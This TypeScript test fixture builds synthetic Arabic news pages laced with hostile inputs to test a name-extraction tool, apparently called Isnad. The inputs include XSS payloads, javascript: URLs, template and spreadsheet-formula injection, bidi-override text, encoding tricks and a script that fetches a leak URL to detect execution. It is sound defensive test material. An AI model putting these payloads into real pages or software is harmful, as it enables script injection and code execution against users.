import { MARKUP } from './hostile-markup.js';

/** Signs that turn the order of what follows them. */
export const ORDER = /[\u202a-\u202e\u2066-\u2069]/u;

const NAMES: readonly string[] = [
  'المتحدث \u202eسامر الحاج\u202c',
  'الوزير \u2066\u2067خالد',
  '\u202dرئيس البلدية',
  'المسؤول "><img src=x onerror=J>',
  'اللواء </script><script>J</script>',
  "المحافظ ' onmouseover='J",
  'الناطق {{constructor.constructor("J")()}}',
  'القائد ${J}',
  'العميد <svg/onload=J>',
  'السفير javascript:J',
  'النائب \u202aAB\u202c \u2069\u2069\u2069 CD\u202e',
  'المدير \u2028السطر\u2029 \u0000\u0007\u001b[31m',
  '=cmd|"/c calc"!A1 العقيد',
];

/** The same signs as a page may write them without printing them. */
const spelt = (text: string): string =>
  text.replace(/[\u202a-\u202e\u2066-\u2069]/gu, (sign) => `&#x${sign.codePointAt(0)!.toString(16)};`);

const fill = (text: string, script: string, address: string): string =>
  text.replace(/\bJ\b/gu, script).replace(/\bU\b/gu, address);

/** How a page is written down: what it says of its encoding, and what it is. */
const ENCODINGS: readonly {
  readonly declared: string;
  readonly bytes: (html: string) => Uint8Array;
}[] = [
  { declared: 'utf-8', bytes: (html) => Buffer.from(html, 'utf8') },
  { declared: '', bytes: (html) => Buffer.from(html, 'utf8') },
  { declared: 'utf-7', bytes: (html) => Buffer.from(html.replace(/<script/gu, '+ADw-script'), 'utf8') },
  { declared: 'utf-16', bytes: (html) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(html, 'utf16le')]) },
  {
    declared: 'utf-8',
    bytes: (html) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(html, 'utf16le').swap16()]),
  },
  { declared: 'iso-2022-jp', bytes: (html) => Buffer.from(html.replace(/"/gu, '\u001b(J"'), 'utf8') },
  // Bytes that some decoders take for "<", and a lead byte that swallows the quotation mark after it.
  {
    declared: 'shift_jis',
    bytes: (html) =>
      Buffer.concat([
        Buffer.from(html, 'utf8'),
        Buffer.from([0xc0, 0xbc]),
        Buffer.from('script>'),
        Buffer.from([0x81]),
      ]),
  },
  { declared: 'x-user-defined', bytes: (html) => Buffer.from(html, 'utf8') },
];

export interface HostilePage {
  readonly source: string;
  readonly mime: string;
  readonly html: string;
  readonly bytes: Uint8Array;
}

function mhtml(html: string): Uint8Array {
  const body = Buffer.from(html, 'utf8').toString('base64').replace(/.{76}/gu, '$&\r\n');
  return Buffer.from(
    `From: <Saved by x>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; type="text/html"; boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\nContent-Location: javascript:window.ranHostile=1\r\n\r\n${body}\r\n--b--\r\n`,
  );
}

/** Pages that try to run, to load, to send and to scramble, in their markup and in the words that Isnad reads out of them. */
export function hostilePages(count: number, leak: string): readonly HostilePage[] {
  const script = `fetch('${leak}?ran'),window.ranHostile=1`;
  return Array.from({ length: count }, (_, i) => {
    const raw = fill(NAMES[i % NAMES.length]!, script, leak)
      .replace(/</gu, '&lt;')
      .replace(/"/gu, '&quot;');
    const name = i % 4 === 3 ? spelt(raw) : raw;
    const first = fill(MARKUP[i % MARKUP.length]!, script, `${leak}?${i}`);
    const second = fill(MARKUP[(i * 7 + 3) % MARKUP.length]!, script, `${leak}?${i}b`);
    const { declared, bytes } = ENCODINGS[i % 3 === 0 ? (i / 3) % ENCODINGS.length : 0]!;
    const charset = declared === '' ? '' : `<meta charset="${declared}">`;
    const canonical = i % 3 === 0 ? `javascript:${script.replace(/"/gu, '')}` : `https://hostile.example/${i}`;
    const html = `<!doctype html><html lang="ar" dir="rtl"><head>${charset}<title>صفحة ${i}: ${name}</title>
<meta property="og:site_name" content="منبر ${name}"><meta property="og:title" content="خبر ${i} عن ${name}">
<link rel="canonical" href="${canonical}">${i % 2 === 0 ? first : ''}</head>
<body><article><h1>خبر ${i} عن ${name} في المدينة</h1><p class="author">${name}</p>
<p>قال ${name}، أمس الأحد، إن الطريق الساحلي سيفتح غدا أمام الشاحنات بعد أسبوع من الإغلاق الذي فرضته السلطات المحلية.</p>
${first}<p>وأضاف أن ${name} وصل إلى المدينة ونفى وجود أي اتفاق على نقل البضائع عبر الميناء القديم.</p>${second}
<p>ولم يصدر تعليق عن البلدية حتى ساعة إعداد هذا الخبر، فيما دعا التجار إلى فتح المعبر قبل نهاية الشهر الجاري.</p></article></body></html>`;
    const file = `<img src=x onerror=${i}> \u202e"'${i}`;
    if (i % 25 === 7) return { source: `${file}.mhtml`, mime: 'multipart/related', html, bytes: mhtml(html) };
    if (i % 25 === 19) return { source: `${file}.txt`, mime: 'text/plain', html, bytes: Buffer.from(html, 'utf8') };
    return { source: `${file}.html`, mime: 'text/html', html, bytes: bytes(html) };
  });
}
